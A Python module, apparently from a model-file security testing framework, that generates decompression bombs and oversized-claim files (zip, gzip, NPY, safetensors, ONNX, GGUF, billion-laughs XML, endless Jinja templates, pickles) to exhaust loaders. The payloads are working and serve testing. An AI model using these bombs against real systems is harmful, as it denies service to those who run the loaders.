"""Small files that claim or unpack to too much: see `InflateFile`."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from random import Random
from typing import ClassVar

from hauberk.core.artifact import ModelFile
from hauberk.core.attack import Attacked, Transform
from hauberk.core.threat import ThreatId
from hauberk.errors import UsageError
from hauberk.methods import model_writing as write

UNPACKED = 1 << 30
"""What the compressed bombs unpack to at least."""


@dataclass(frozen=True, slots=True, kw_only=True)
class InflateFile(Transform[ModelFile]):
    """Write a file of at most some megabytes that costs its loader gigabytes, or forever.

    Bombs of every compression, nested, overlapping and inside of models; shapes, counts, lengths
    and offsets that no file fills; depth that recurses; pickles and templates that grow.

    Args:
        bomb: Name of one bomb; by default the random generator picks one.

    References:
        MITRE ATLAS AML.T0029; CWE-409, CWE-789. D. Fifield, "A better zip bomb", WOOT 2019.
    """

    title: ClassVar[str] = "Inflate a model file beyond what its loader bears"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("EX-10"), ThreatId("XC-3"))
    subject: ClassVar[type] = ModelFile

    bomb: str | None = None

    def apply(self, subject: ModelFile, rng: Random) -> Attacked[ModelFile]:
        """The bomb, in a file of its own beside ``subject``.

        The truth holds ``claims``: bytes, items or levels that a believing loader makes of it.

        Raises:
            UsageError: There is no such bomb.
        """
        label = self.bomb or rng.choice(tuple(BOMBS))
        if label not in BOMBS:
            raise UsageError(f"there is no bomb {label!r}", expected=" ".join(BOMBS))
        suffix, claims, make = BOMBS[label]
        path = subject.path.parent / f"{label}{suffix}"
        path.write_bytes(make())
        twin = ModelFile(name=path.name, path=path)
        return Attacked(subject=twin, truth={"bomb": label, "claims": claims})


# Streams of zeros, put together from equal blocks so that they are quick to write


def _deflated(size: int = UNPACKED, wbits: int = -15) -> bytes:
    block = 1 << 20
    coder = zlib.compressobj(9, zlib.DEFLATED, wbits)
    first = coder.compress(bytes(block)) + coder.flush(zlib.Z_FULL_FLUSH)
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    again = raw.compress(bytes(block)) + raw.flush(zlib.Z_FULL_FLUSH)
    return first + again * (size // block - 1) + b"\x03\x00"


def _zip(label: str, packed: bytes, size: int = UNPACKED, method: int = 8) -> bytes:
    """One member whose packed bytes are given; the checksum is wrong, as loaders do not mind."""
    name = label.encode()
    short = min(size, 0xFFFFFFFE)
    parts = (20, 0, method, 0, 0, 0, len(packed), short, len(name), 0)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", *parts) + name + packed
    central = struct.pack("<4sH5H3L5H2L", b"PK\x01\x02", 20, *parts, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def _overlapping(count: int = 2_000) -> bytes:
    """Many members over one packed kernel."""
    kernel = _deflated(32 << 20)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("0"), bytes(1 << 20), zipfile.ZIP_DEFLATED)
    one = _zip("0", kernel, 32 << 20)
    start = one.index(b"PK\x01\x02")
    central = one[start : one.index(b"PK\x05\x06")]
    directory = b"".join(
        central[:28] + struct.pack("<H", 6) + central[30:46] + b"%06d" % number
        for number in range(count)
    )
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return one[:start] + directory + end


def _many(compress: Callable[[bytes], bytes], piece: int = 64 << 20) -> bytes:
    return compress(bytes(piece)) * (UNPACKED // piece)


def _nested(depth: int) -> bytes:
    data = b"cos\nsystem\n."
    for level in range(depth):
        data = write.zipped({f"{level}.zip": data})
    return data


def _gzipped(depth: int) -> bytes:
    data = _deflated(UNPACKED, 31)
    for _ in range(depth):
        data = gzip.compress(data, mtime=0)
    return data


# Claims


def _npy(shape: str) -> bytes:
    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': {shape}, }}"
    padded = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(padded).to_bytes(2, "little") + padded + bytes(64)


def _onnx_deep(depth: int = 60) -> bytes:
    node = write.onnx_node("Relu")
    for _ in range(depth):
        attribute = write.field(1, "body") + write.field(6, write.field(1, node))
        node = write.onnx_node("Loop", "", write.field(5, attribute))
    return write.onnx_model([node])


def _array_entry(kind: int, count: int, depth: int = 0) -> bytes:
    inner = b"".join(struct.pack("<IQ", 9, 1) for _ in range(depth))
    return write.gguf_text("a") + struct.pack("<I", 9) + inner + struct.pack("<IQ", kind, count)


_DEEP = 100_000
_LAUGHS = b'<!DOCTYPE PMML [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(20)
)
_Q = 1 << 60
_SHAPE = {"a": {"dtype": "F64", "shape": [_Q], "data_offsets": [0, 8]}}
_LONG = write.varint(58) + write.varint(_Q)
_CONFIG = b'{"class_name": "X", "config": '
_TOKENIZER = b'{"tokenizer_class": "X", "chat_template": "{{ %s"}'
_ENDLESS = b"{% for m in range(1000000000) %}{{ messages }}{% endfor %}"
_UBJ = b"{L" + struct.pack(">q", 1) + b"a[$d#L"

BOMBS: Mapping[str, tuple[str, int, Callable[[], bytes]]] = {
    "zip": (".zip", UNPACKED, lambda: _zip("weights", _deflated())),
    "zip-in-torch": (".pt", UNPACKED, lambda: _zip("archive/data.pkl", _deflated())),
    "zip-in-npz": (".npz", UNPACKED, lambda: _zip("X.npy", _deflated())),
    "zip-keras": (".keras", UNPACKED, lambda: _zip("config.json", _deflated())),
    "zip-overlap": (".zip", 64 << 30, _overlapping),
    "zip-nested": (".zip", 40, lambda: _nested(40)),
    "gzip": (".gz", UNPACKED, lambda: _deflated(UNPACKED, 31)),
    "gzip-nested": (".gz", UNPACKED, lambda: _gzipped(4)),
    "zlib-joblib": (".joblib", UNPACKED, lambda: _deflated(UNPACKED, 15)),
    "bz2": (".bz2", UNPACKED, lambda: _many(bz2.compress, 16 << 20)),
    "xz": (".xz", UNPACKED, lambda: _many(lambda data: lzma.compress(data, preset=0))),
    "zip-lzma": (".zip", 128 << 20, lambda: _zip_with(zipfile.ZIP_LZMA)),
    "zip-bzip2": (".zip", 128 << 20, lambda: _zip_with(zipfile.ZIP_BZIP2)),
    "npy-shape": (".npy", 8 << 50, lambda: _npy("(1125899906842624,)")),
    "npy-product": (".npy", 8 << 60, lambda: _npy("(1073741824, 1073741824)")),
    "npz-shape": (".npz", 8 << 50, lambda: write.zipped({"X.npy": _npy("(1125899906842624,)")})),
    "safetensors-header": (".safetensors", 1 << 39, lambda: b"\0\0\0\0\x80\0\0\0{" + bytes(99)),
    "safetensors-shape": (".safetensors", _Q, lambda: write.safetensors(_SHAPE, bytes(8))),
    "safetensors-depth": (".safetensors", _DEEP, lambda: write.safetensors(b'{"a":' * _DEEP, b"")),
    "onnx-dims": (".onnx", _Q, lambda: write.onnx_model([], [write.onnx_tensor((_Q, 4), None)])),
    "onnx-depth": (".onnx", 60, _onnx_deep),
    "onnx-length": (".onnx", _Q, lambda: write.onnx_model()[:40] + _LONG),
    "gguf-tensors": (".gguf", _Q, lambda: write.gguf({}, n_tensors=_Q)),
    "gguf-keys": (".gguf", _Q, lambda: write.gguf({}, n_keys=_Q)),
    "gguf-array": (".gguf", _Q, lambda: write.gguf({}, n_keys=1, more=_array_entry(4, _Q))),
    "gguf-strings": (".gguf", _Q, lambda: write.gguf({}, n_keys=1, more=_array_entry(8, _Q))),
    "gguf-depth": (".gguf", 999, lambda: write.gguf({}, n_keys=1, more=_array_entry(4, 1, 999))),
    "gguf-string": (".gguf", _Q, lambda: write.gguf({}, n_keys=1, more=struct.pack("<Q", _Q))),
    "gguf-shape": (".gguf", _Q, lambda: write.gguf({}, tensors=[("a", (1 << 30, 1 << 30), 0)])),
    "tflite-vector": (".tflite", 1 << 31, lambda: write.tflite(n_claimed=1 << 31)),
    "tflite-shape": (".tflite", 1 << 31, lambda: write.tflite(shape=(1 << 15, 1 << 15))),
    "json-depth": (".json", _DEEP, lambda: _CONFIG + b"[" * _DEEP),
    "keras-depth": (".keras", _DEEP, lambda: write.zipped({"config.json": _CONFIG + b"[" * _DEEP})),
    "template-depth": (".json", _DEEP, lambda: _TOKENIZER % (b"(" * _DEEP)),
    "template-range": (".jinja", 10**9, lambda: _ENDLESS),
    "pmml-laughs": (".pmml", 10**20, lambda: _LAUGHS + b"]><PMML>&u;</PMML>"),
    "pickle-long": (".pkl", 1 << 31, lambda: b"\x80\x04\x8b\xff\xff\xff\x7f" + bytes(50)),
    "pickle-bytes": (".pkl", _Q, lambda: b"\x80\x04\x8e" + struct.pack("<Q", _Q) + bytes(50)),
    "ubj-count": (".ubj", 1 << 62, lambda: _UBJ + struct.pack(">q", 1 << 62)),
    "catboost-size": (".cbm", 1 << 32, lambda: b"CBM1\xff\xff\xff\xff" + bytes(60)),
}  # fmt: skip
"""Name of a bomb to its ending, to what it claims, and to what writes it."""


def _zip_with(method: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive, archive.open("weights", "w") as member:
        for _ in range(8):
            member.write(bytes(1 << 24))
    return buffer.getvalue()
